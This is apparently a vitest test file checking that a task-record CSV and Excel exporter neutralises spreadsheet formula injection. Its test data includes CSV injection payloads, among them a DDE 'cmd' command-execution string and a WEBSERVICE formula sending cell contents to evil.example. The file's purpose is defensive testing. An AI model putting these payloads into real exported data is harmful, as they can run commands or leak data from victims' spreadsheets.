import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { FORMULA_TRIGGERS, STRICT_NUMBER, csvField, defuseFormula } from "../../app/domain/csv";
import { TASK_SHEET, type TaskExportRow } from "../../app/server/catalog/spreadsheet/columns.server";
import { tasksToCsv, tasksToWorkbook } from "../../app/server/catalog/spreadsheet/writer.server";

/** RFC 4180 reader (quoted fields, doubled quotes, CRLF records), independent of the writer. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (!quoted && c === ",") {
      row.push(field);
      field = "";
    } else if (!quoted && c === "\r" && text[i + 1] === "\n") {
      rows.push([...row, field]);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  expect(field).toBe("");
  return rows;
}

const unquote = (field: string) =>
  field.startsWith('"') && field.endsWith('"') && field.length >= 2
    ? field.slice(1, -1).replaceAll('""', '"')
    : field;

const triggers = FORMULA_TRIGGERS as readonly string[];
const safeCell = (cell: string) => !triggers.includes(cell.charAt(0)) || STRICT_NUMBER.test(cell);

/** Text biased towards the dangerous shapes: a trigger, then digits, operators, pipes and function names. */
const hostileText = fc
  .tuple(
    fc.constantFrom("", ...triggers),
    fc.array(
      fc.oneof(
        fc.constantFrom(
          "1",
          "0",
          ".",
          "e",
          "E",
          "+",
          "-",
          "|",
          "!",
          "cmd",
          "WEBSERVICE(",
          ")",
          " ",
          "\t",
          "\r",
        ),
        fc.string({ maxLength: 4 }),
      ),
      { maxLength: 8 },
    ),
  )
  .map(([first, rest]) => first + rest.join(""));

const strictNumber = fc
  .tuple(
    fc.constantFrom("", "+", "-"),
    fc.oneof(
      fc.nat().map(String),
      fc.tuple(fc.nat(), fc.nat()).map(([a, b]) => `${a}.${b}`),
      fc.nat().map((b) => `.${b}`),
    ),
    fc.option(
      fc
        .tuple(fc.constantFrom("e", "E"), fc.constantFrom("", "+", "-"), fc.nat({ max: 300 }))
        .map((p) => p.join("")),
      { nil: "" },
    ),
  )
  .map((parts) => parts.join(""));

const baseTask: TaskExportRow = {
  code: "2026-AI-001",
  title: "智能审批助手",
  domain: "ai",
  demandUnit: "武汉市数据局",
  district: "江岸区",
  scenarioNeed: "需求",
  goals: "目标",
  eligibility: "条件",
  indicativeInvestment: 123_456,
  bidDeadline: new Date("2030-03-15T01:30:00Z"),
  maxWinners: 3,
  contactName: "王五",
  contactPhone: "13800138000",
  indicators: [{ name: "准确率", target: "≥ 95%", measurement: "抽样评测", weight: 100, veto: false }],
};

describe("CSV formula injection", () => {
  it("defuses the payloads that passed before: a sign, a digit, then a formula", () => {
    for (const payload of [
      "-1+cmd|' /C calc'!A0",
      '+1+WEBSERVICE("http://evil.example/?"&A1)',
      '-2-HYPERLINK("http://x")',
      "+86 27 8888 0000",
    ])
      expect(defuseFormula(payload)).toBe(`'${payload}`);
    const rows = readCsv(
      tasksToCsv([{ ...baseTask, title: "-1+cmd|' /C calc'!A0", goals: '+1+WEBSERVICE("http://x")' }]).slice(
        1,
      ),
    );
    expect(rows[1]![2]).toBe("'-1+cmd|' /C calc'!A0");
    expect(rows[1]![7]).toBe('\'+1+WEBSERVICE("http://x")');
  });

  it("defuses every trigger: = + - @ tab and carriage return", () => {
    for (const trigger of triggers) expect(defuseFormula(`${trigger}SUM(A1)`)).toBe(`'${trigger}SUM(A1)`);
  });

  it("leaves strict numbers alone: -12.5, +3, 1e5, -.5, -2.5E-3", () => {
    for (const number of ["-12.5", "+3", "1e5", "+1e5", "-.5", "-2.5E-3", "0", "-0"])
      expect(defuseFormula(number)).toBe(number);
    for (const notNumber of ["-1.", "+", "-", "-e5", "+Infinity", "-0x1F", "-1,000", "- 1", "-1 "])
      expect(defuseFormula(notNumber)).toBe(`'${notNumber}`);
  });

  it("property: no field starts with a trigger unless it is strictly a number, and only an apostrophe is added", () => {
    fc.assert(
      fc.property(fc.oneof(hostileText, fc.string(), strictNumber), (text) => {
        const out = unquote(csvField(text));
        expect(safeCell(out)).toBe(true);
        expect(out === text || out === `'${text}`).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it("property: strict numbers, signed or not, come out unchanged", () => {
    fc.assert(
      fc.property(strictNumber, (number) => {
        expect(STRICT_NUMBER.test(number)).toBe(true);
        expect(csvField(number)).toBe(number);
      }),
      { numRuns: 1000 },
    );
  });

  it("property: every cell of a task export is safe, whatever the task's texts", () => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 8, maxLength: 8 }), (texts) => {
        const [title, demandUnit, scenarioNeed, goals, eligibility, contactName, contactPhone, name] =
          texts as [string, string, string, string, string, string, string, string];
        const task: TaskExportRow = {
          ...baseTask,
          ...{ title, demandUnit, scenarioNeed, goals, eligibility, contactName, contactPhone },
          indicators: [{ ...baseTask.indicators[0]!, name }],
        };
        const rows = readCsv(tasksToCsv([task]).slice(1));
        expect(rows).toHaveLength(2);
        for (const cell of rows.flat()) expect(safeCell(cell), JSON.stringify(cell)).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});

describe("Excel export", () => {
  it("writes formula-like texts as text cells, never as formulas (verified, not assumed)", async () => {
    const payloads = ["=1+1", "-1+cmd|' /C calc'!A0", '+1+WEBSERVICE("http://x")', "@SUM(A1)"];
    const buffer = await tasksToWorkbook([
      {
        ...baseTask,
        title: payloads[0]!,
        goals: payloads[1]!,
        eligibility: payloads[2]!,
        contactName: payloads[3]!,
      },
    ]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(buffer).buffer);
    const row = workbook.getWorksheet(TASK_SHEET)!.getRow(2);
    const cells = [row.getCell(3), row.getCell(8), row.getCell(9), row.getCell(13)];
    expect(cells.map((cell) => cell.value)).toEqual(payloads);
    for (const cell of cells) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    // And in the file itself: no formula element at all in the sheet's XML.
    const sheetXml = await unzipEntry(buffer, "xl/worksheets/sheet1.xml");
    expect(sheetXml).toContain("<sheetData>");
    expect(sheetXml).not.toMatch(/<f[ >]/);
  });
});

/** One entry of a zip, through its local header (the test's own reader, independent of the app's). */
async function unzipEntry(zip: Buffer, name: string): Promise<string> {
  const { inflateRawSync } = await import("node:zlib");
  let offset = 0;
  while (zip.readUInt32LE(offset) === 0x04034b50) {
    const method = zip.readUInt16LE(offset + 8);
    const flags = zip.readUInt16LE(offset + 6);
    let size = zip.readUInt32LE(offset + 18);
    const nameLength = zip.readUInt16LE(offset + 26);
    const extraLength = zip.readUInt16LE(offset + 28);
    const entryName = zip.toString("utf8", offset + 30, offset + 30 + nameLength);
    const start = offset + 30 + nameLength + extraLength;
    if (flags & 8) {
      // Sizes follow the data in a descriptor: find them through the central directory instead.
      size = centralSize(zip, entryName);
    }
    if (entryName === name) {
      const data = zip.subarray(start, start + size);
      return (method === 8 ? inflateRawSync(data) : data).toString("utf8");
    }
    offset = start + size + (flags & 8 ? (zip.readUInt32LE(start + size) === 0x08074b50 ? 16 : 12) : 0);
  }
  throw new Error(`no ${name} in the zip`);
}

function centralSize(zip: Buffer, name: string): number {
  for (let offset = zip.length - 46; offset >= 0; offset--) {
    if (zip.readUInt32LE(offset) !== 0x02014b50) continue;
    const nameLength = zip.readUInt16LE(offset + 28);
    if (zip.toString("utf8", offset + 46, offset + 46 + nameLength) === name)
      return zip.readUInt32LE(offset + 20);
  }
  throw new Error(`${name} is not in the central directory`);
}
